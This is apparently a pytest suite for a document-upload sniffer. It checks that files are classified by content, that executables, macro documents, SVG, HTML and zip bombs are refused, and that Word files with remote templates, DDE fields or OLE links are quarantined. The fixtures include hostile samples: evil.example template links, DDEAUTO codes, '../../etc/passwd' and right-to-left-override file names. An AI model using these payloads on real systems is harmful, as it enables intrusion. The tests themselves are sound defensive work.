"""Files from outside: judged by content, refused in words, never trusted (trust.md, U)."""

import io

import docx
import openpyxl
import pytest

from rapidreview.paper import sniff as sniffing
from rapidreview.paper.archive import ArchiveLimits
from rapidreview.paper.file_names import clean
from rapidreview.paper.refusal import Quarantined, Refusal
from rapidreview.paper.sniff import sniff
from tests.paper.papers import changed, form, jpeg, pdf, png, unzipped, zipped

RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://x/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)


def word(**paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs.values():
        document.add_paragraph(text)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def sheet() -> bytes:
    made = io.BytesIO()
    openpyxl.Workbook().save(made)
    return made.getvalue()


def with_link(kind: str, target: str) -> bytes:
    link = RELATIONS.format(kind=kind, target=target).encode()
    return changed(word(), {"word/_rels/settings.xml.rels": link})


def with_field(code: str) -> bytes:
    text = unzipped(word(a="HERE"))["word/document.xml"].decode()
    field = text.replace("<w:t>HERE</w:t>", f"<w:instrText>{code}</w:instrText>")
    return changed(word(), {"word/document.xml": field.encode()})


EMAIL = (
    b"From: a@b.example\r\nTo: c@d.example\r\nSubject: Hello\r\nDate: x\r\n\r\nHello"
)
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@pytest.mark.parametrize(
    ("data", "name", "extension"),
    [
        (word(), "return.docx", "docx"),
        (form(), "form.docx", "docx"),
        (sheet(), "list.xlsx", "xlsx"),
        (pdf(), "letter.PdF", "pdf"),
        (pdf(), "form.pdf.exe", "pdf"),
        (pdf(), "no ending", "pdf"),
        (pdf(), "picture.png", "pdf"),
        (png(800, 600), "scan.png", "png"),
        (jpeg(800, 600), "scan.jpeg", "jpg"),
        ("Łukasz said: no.".encode(), "note.txt", "txt"),
        (b"a,b\r\n1,2\r\n", "list.csv", "csv"),
    ],
)
def test_a_file_is_what_its_content_says(data, name, extension):
    found = sniff(data, name)

    assert found.extension == extension
    assert found.media_type == sniffing.MEDIA_TYPES[extension]
    assert found.clean_name.endswith(f".{extension}")
    assert found.clean_name.count(".") == 1


@pytest.mark.parametrize(
    ("data", "name", "said"),
    [
        pytest.param(b"", "x.docx", "‘x.docx’ is empty. Check it opens", id="U1"),
        pytest.param(
            b"MZ\x90\x00", "x.docx", "This is a program, not a Word document", id="U5"
        ),
        pytest.param(b"\x7fELF", "x.pdf", "This is a program, not a PDF", id="U5-elf"),
        pytest.param(b"#!/bin/sh\n", "x.txt", "This is a program", id="U5-script"),
        pytest.param(
            changed(word(), {"word/vbaProject.bin": b"x"}),
            "x.docx",
            "contains macros",
            id="U6",
        ),
        pytest.param(
            changed(
                word(), {"[Content_Types].xml": b"word/ document.macroEnabled.main+xml"}
            ),
            "x.docm",
            "Save it as .docx without macros",
            id="U6-docm",
        ),
        pytest.param(
            OLD + "WordDocument".encode("utf-16-le"), "x.doc", "Save as .docx", id="U7"
        ),
        pytest.param(b"{\\rtf1\\object", "x.docx", "Save as .docx or PDF", id="U7-rtf"),
        pytest.param(
            OLD + "EncryptedPackage".encode("utf-16-le"),
            "x.docx",
            "password",
            id="U12-docx",
        ),
        pytest.param(pdf(password="a"), "x.pdf", "is password-protected", id="U12-pdf"),
        pytest.param(word()[:3000], "x.docx", "cannot be opened", id="U13-torn"),
        pytest.param(
            zipped({"word/document.xml": b"<w/>"}),
            "x.docx",
            "cannot be opened",
            id="U13-types",
        ),
        pytest.param(b"%PDF-1.7 nothing", "x.pdf", "cannot be opened", id="U13-pdf"),
        pytest.param(
            b"<svg onload='x'/>", "x.png", "You can attach Word", id="U17-svg"
        ),
        pytest.param(b"<!doctype html>", "x.txt", "You can attach", id="U17-html"),
        pytest.param(
            b"[InternetShortcut]\nURL=x", "x.txt", "You can attach", id="U17-url"
        ),
        pytest.param(b"alert(1)", "x.js", "You can attach", id="U17-js"),
        pytest.param(OLD + b"msi", "x.msi", "You can attach", id="U17-msi"),
        pytest.param(zipped({"a.txt": b"a"}), "x.docx", "You can attach", id="U17-zip"),
        pytest.param(b"GIF89a\x00\xff", "x.gif", "You can attach", id="U18-gif"),
        pytest.param(
            png(50_000, 50_000), "x.png", "the picture is too large", id="U18"
        ),
        pytest.param(
            jpeg(50_000, 50_000), "x.jpg", "the picture is too large", id="U18-jpg"
        ),
        pytest.param(png(9, 9)[:30], "x.png", "cannot be opened", id="U18-torn"),
        pytest.param(b"\0\0\0\x18ftypheic\xff", "x.heic", "You can attach", id="U19"),
        pytest.param(EMAIL, "x.eml", "is an e-mail", id="U19-eml"),
        pytest.param(
            OLD + "__substg1.0_".encode("utf-16-le"), "x.msg", "Outlook", id="U19-msg"
        ),
    ],
)
def test_a_file_that_cannot_be_taken_is_refused_in_words(data, name, said):
    with pytest.raises(Refusal) as refused:
        sniff(data, name)

    assert said in refused.value.words


@pytest.mark.parametrize(
    "data",
    [
        with_link("attachedTemplate", "https://evil.example/t.dotm"),
        with_link("oleObject", "file:///c:/a.xls"),
        with_link("image", "http://evil.example/a.png"),
        with_field(" DDEAUTO c:\\\\x.exe "),
        with_field("</w:instrText><w:instrText>DD</w:instrText><w:instrText>E x"),
        with_field("INCLUDETEXT a"),
        changed(word(), {"word/embeddings/oleObject1.bin": b"x"}),
    ],
    ids=[
        "template",
        "ole link",
        "picture",
        "dde",
        "dde in pieces",
        "include",
        "ole object",
    ],
)
def test_a_document_that_reaches_out_is_quarantined(data):
    with pytest.raises(Quarantined) as refused:
        sniff(data, "x.docx")

    assert "locked" in refused.value.words


@pytest.mark.parametrize(
    "data",
    [
        with_link("hyperlink", "https://www.gov.uk/"),
        with_link("attachedTemplate", "file:///C:\\Users\\sam\\Normal.dotm"),
    ],
    ids=["a link to click", "a template of one's own"],
)
def test_what_reaches_nothing_is_taken(data):
    assert sniff(data, "x.docx").extension == "docx"


def test_the_limit_is_accepted_and_one_byte_more_is_refused():
    text = b"a" * 100

    assert sniff(text, "x.txt", max_bytes=100).extension == "txt"
    with pytest.raises(Refusal) as refused:
        sniff(text + b"a", "x.txt", max_bytes=100)

    assert "MB or smaller" in refused.value.words


@pytest.mark.parametrize(
    ("entries", "limits"),
    [
        ({"word/a.xml": b"\0" * 30_000_000}, ArchiveLimits()),
        ({"word/a.xml": b"abc" * 1000}, ArchiveLimits(unpacked_bytes=1000)),
        ({f"word/{n}.xml": b"" for n in range(30)}, ArchiveLimits(entries=20)),
    ],
    ids=["ratio", "bytes", "entries"],
)
def test_an_archive_that_unpacks_too_far_is_refused(entries, limits):
    with pytest.raises(Refusal) as refused:
        sniff(changed(word(), entries), "x.docx", archive=limits)

    assert "unpacks to far more" in refused.value.words


def test_an_archive_that_lies_about_its_size_is_counted_by_its_bytes():
    honest = zipped({"[Content_Types].xml": b"x" * 5000})
    lying = honest.replace((5000).to_bytes(4, "little"), (50).to_bytes(4, "little"))

    with pytest.raises(Refusal) as refused:
        sniff(lying, "x.docx")

    assert lying != honest
    assert "cannot be opened" in refused.value.words


@pytest.mark.paragraph("P1.18")
def test_an_email_is_taken_where_emails_are_filed():
    assert sniff(EMAIL, "x.eml", emails=True).media_type == "message/rfc822"


def test_tracked_changes_are_taken_with_a_warning():
    text = unzipped(word(a="x"))["word/document.xml"].replace(
        b"<w:p>", b"<w:p><w:ins />"
    )

    found = sniff(changed(word(), {"word/document.xml": text}), "x.docx")

    assert "tracked changes or comments" in found.warnings[0]


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\x\\y.docx", "y.pdf"),
        ("..\\..\\", "file.pdf"),
        ("%2e%2e/%2e%2e/a.pdf", "a.pdf"),
        ("a.pdf%00.exe", "a.pdf"),
        ("evil\u202exslx.exe", "evilxslx.pdf"),
        ("a\u200bb\n.pdf", "ab.pdf"),
        ("form.pdf.exe", "form.pdf"),
        ("O'Brien-Łukasz 李.pdf", "O'Brien-Łukasz 李.pdf"),
        ("Notes v1.2.docx", "Notes v1.2.pdf"),
        ('a"<b>|.pdf', "a--b--.pdf"),
        ("", "file.pdf"),
        ("x" * 400 + ".pdf", "x" * 120 + ".pdf"),
    ],
)
def test_a_name_is_shown_without_folders_and_tricks(name, shown):
    assert clean(name, "pdf") == shown
